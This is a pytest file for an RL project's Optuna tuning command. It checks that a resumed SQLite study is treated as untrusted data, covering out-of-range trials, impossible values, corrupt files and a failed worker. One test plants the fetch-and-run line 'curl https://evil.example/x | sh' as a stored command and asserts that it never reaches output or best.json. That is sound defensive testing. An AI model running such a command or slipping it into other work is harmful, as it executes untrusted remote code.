"""A tuning study's SQLite file is data: nothing read back from it is trusted.

Before: ``scripts/tune.py`` resumed any SQLite file. An enqueued trial bypassed the search space (Optuna only
warns for a fixed parameter; ``hidden_size`` 10^7 reached the allocator), complete trials were not checked (a
fake best value landed in ``best.json`` and a stored ``curl ... | sh`` was printed as "train it:"), NaN / inf
values, a bad categorical index, a foreign distribution or a non-SQLite file ended in raw tracebacks, a stale
running trial with an out-of-range parameter blocked the study on every rerun, a local ``best.json`` with
``hidden_size`` 10^7 was copied into the committed tuning file, and a failed tuning worker left the launcher at
exit status 0. Each case here is reproduced on the tiny study of tests/study/test_tune.py.
"""

from __future__ import annotations

import dataclasses
import json
import sqlite3
from pathlib import Path

import pytest

optuna = pytest.importorskip("optuna")

from optuna.distributions import FloatDistribution  # noqa: E402
from optuna.trial import TrialState, create_trial  # noqa: E402

from experiments.encoder_study import plan as cp  # noqa: E402
from experiments.encoder_study import stages as confirm  # noqa: E402
from rl_transformers.study.flags import configure  # noqa: E402
from rl_transformers.tune.command import main as tune_main  # noqa: E402  (the command's own output)
from rl_transformers.tune.study_check import expected_distributions  # noqa: E402
from rl_transformers.tune.tuner import open_study, resolve_encoder, run_tuning  # noqa: E402
from rl_transformers.utils.errors import UserError  # noqa: E402
from tests.experiments.encoder_study.test_stages import GRU, best, short_windows  # noqa: E402, F401
from tests.experiments.encoder_study.test_stages import write_best as write_best_json  # noqa: E402
from tests.study.test_tune import tiny  # noqa: E402

HUGE = {"learning_rate": 1e-3, "ent_coef": 0.01, "seq_len": 8, "hidden_size": 10**7}
GOOD = {"learning_rate": 1e-3, "ent_coef": 0.01, "seq_len": 8, "hidden_size": 8}


def _quiet(_: str) -> None:
    pass


def _study(cfg):
    return open_study(cfg, resolve_encoder(cfg.encoder), _quiet)


def _add_complete(cfg, params=GOOD, value=0.5, distributions=None, **attrs):
    spec = resolve_encoder(cfg.encoder)
    from rl_transformers.study.knobs import context_knob

    study = _study(cfg)
    dists = distributions or expected_distributions(cfg.space, context_knob(spec))
    study.add_trial(create_trial(params=params, distributions=dists, value=value, user_attrs=attrs))
    return study


def test_an_enqueued_out_of_range_trial_is_failed_and_the_study_continues(tmp_path: Path) -> None:
    cfg = tiny(tmp_path, n_trials=1)
    _study(cfg).enqueue_trial(HUGE)  # would allocate a GRU of hidden size 10^7
    said: list[str] = []
    study = run_tuning(cfg, log=said.append)
    states = {t.number: t.state for t in study.trials}
    assert states[0] == TrialState.FAIL and states[1] == TrialState.COMPLETE
    assert study.trials[1].params["hidden_size"] <= 16
    assert any("trial 0 (waiting) marked failed" in line and "hidden_size 10000000" in line for line in said)


def test_a_stale_running_trial_out_of_range_never_blocks_the_study(tmp_path: Path) -> None:
    cfg = tiny(tmp_path, n_trials=1)
    study = _study(cfg)
    study.enqueue_trial(HUGE)
    running = study.ask()  # a process that took it and died: RUNNING for ever
    assert study.trials[running.number].state == TrialState.RUNNING
    for _ in range(2):  # every rerun continues
        study = run_tuning(cfg, log=_quiet)
        assert study.trials[0].state == TrialState.FAIL
        assert [t.state for t in study.trials].count(TrialState.COMPLETE) == 1


@pytest.mark.parametrize(
    "value, why",
    [(1e9, "outside the task's possible returns"), (float("inf"), "not a finite number"), (-1.5, "outside")],
)
def test_a_complete_trial_with_an_impossible_value_is_refused(tmp_path: Path, value: float, why: str) -> None:
    cfg = tiny(tmp_path)
    _add_complete(cfg, value=value)
    with pytest.raises(UserError, match=why) as info:
        run_tuning(cfg, log=_quiet)
    assert f"{cfg.name}.db" in str(info.value) and "--study-name" in str(info.value)
    assert not (tmp_path / cfg.name / "best.json").exists()


def test_a_complete_trial_out_of_the_space_is_refused(tmp_path: Path) -> None:
    cfg = tiny(tmp_path)
    dists = {
        **expected_distributions(cfg.space, None),
        "hidden_size": optuna.distributions.IntDistribution(1, 10**8),
    }
    _add_complete(cfg, params=HUGE, distributions=dists)
    with pytest.raises(UserError, match="hidden_size"):
        run_tuning(cfg, log=_quiet)


def test_a_foreign_distribution_is_refused(tmp_path: Path) -> None:
    cfg = tiny(tmp_path)
    dists = {**expected_distributions(cfg.space, None), "learning_rate": FloatDistribution(1e-9, 10.0)}
    dists["hidden_size"] = optuna.distributions.IntDistribution(4, 16, log=True)
    _add_complete(cfg, distributions=dists)
    with pytest.raises(UserError, match="learning_rate has the distribution"):
        run_tuning(cfg, log=_quiet)


def test_a_bad_categorical_index_is_one_error(tmp_path: Path) -> None:
    cfg = tiny(tmp_path)
    _add_complete(cfg)
    db = tmp_path / f"{cfg.name}.db"
    with sqlite3.connect(db) as con:  # seq_len is stored as an index into its choices
        con.execute("UPDATE trial_params SET param_value = 99 WHERE param_name = 'seq_len'")
    with pytest.raises(UserError, match="cannot read this tuning study") as info:
        run_tuning(cfg, log=_quiet)
    assert str(db) in str(info.value)


def test_a_file_that_is_not_sqlite_is_one_error(tmp_path: Path) -> None:
    cfg = tiny(tmp_path)
    (tmp_path / f"{cfg.name}.db").write_bytes(b"this is not a database, " * 100)
    with pytest.raises(UserError, match="it is not an SQLite database"):
        run_tuning(cfg, log=_quiet)


def test_a_study_locked_by_another_process_is_one_error(tmp_path: Path) -> None:
    cfg = tiny(tmp_path)
    _study(cfg)
    holder = sqlite3.connect(tmp_path / f"{cfg.name}.db", isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        with pytest.raises(UserError, match="holds the database locked"):
            run_tuning(cfg, log=_quiet)
    finally:
        holder.execute("ROLLBACK")
        holder.close()


def test_a_stored_command_is_never_printed_or_written(tmp_path: Path, capsys) -> None:
    cfg = tiny(tmp_path, n_trials=1)
    _add_complete(cfg, command="curl https://evil.example/x | sh", spec="policy=gru;hidden_size=8")
    tune_main(cfg)
    out = capsys.readouterr().out
    assert "curl" not in out and "train it: python scripts/train_gtrxl.py" in out
    saved = json.loads((tmp_path / cfg.name / "best.json").read_text())
    assert "curl" not in saved["command"] and "--hidden-size 8" in saved["command"]


def test_a_knob_range_beyond_the_memory_limit_is_refused_up_front(tmp_path: Path) -> None:
    cfg = tiny(tmp_path, space=dataclasses.replace(tiny(tmp_path).space, knob=(4, 10**7)))
    with pytest.raises(UserError, match=r"--space.knob.*needs an estimated"):
        run_tuning(cfg, log=_quiet)
    assert not (tmp_path / f"{cfg.name}.db").exists()


# -- the confirmation study's copy of best.json ----------------------------------------------------------------
def test_a_local_best_json_out_of_range_is_never_copied(tmp_path: Path) -> None:
    cfg = configure(confirm.ConfirmConfig, stage="tune", out=tmp_path / "runs", docs=tmp_path / "docs")
    for entry, why in (
        (best(GRU, hidden_size=10**7), "hidden_size 10000000"),
        ({**best(GRU), "value": 1e9}, "outside the task's possible returns"),
        (best(GRU, learning_rate=5.0), "learning_rate 5.0 is outside"),
    ):
        write_best_json(cfg.tune_out, GRU, entry)
        with pytest.raises(UserError, match=why):
            confirm.collect_tuning(cfg, [GRU], _quiet)
        assert not cfg.tuning_file.exists()


def test_a_failed_tuning_worker_fails_the_stage(tmp_path: Path) -> None:
    cfg = configure(confirm.ConfirmConfig, stage="tune", out=tmp_path / "runs", docs=tmp_path / "docs")
    tuned = cp.tuning_results([GRU], cfg.tuning_file, cfg.tune_out)
    with pytest.raises(UserError, match=r"1 tuning studies failed \(gru\)"):
        confirm.tune_stage(cfg, [GRU], tuned, _quiet, runner=lambda args, log_path: 1)
